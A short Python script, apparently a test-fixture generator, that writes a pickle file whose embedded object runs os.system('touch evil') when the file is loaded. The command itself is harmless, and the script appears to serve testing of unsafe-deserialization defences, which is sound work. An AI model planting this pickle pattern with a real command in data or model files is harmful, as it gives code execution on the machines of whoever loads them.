"""Writes a pickle that would run a command when Python reads it.

hostile.py FILE PROTOCOL
"""

import os
import pickle
import sys


class Evil:
    def __reduce__(self):
        return os.system, ("touch evil",)


with open(sys.argv[1], "wb") as out:
    pickle.dump({"data": Evil(), "labels": [1]}, out, int(sys.argv[2]))
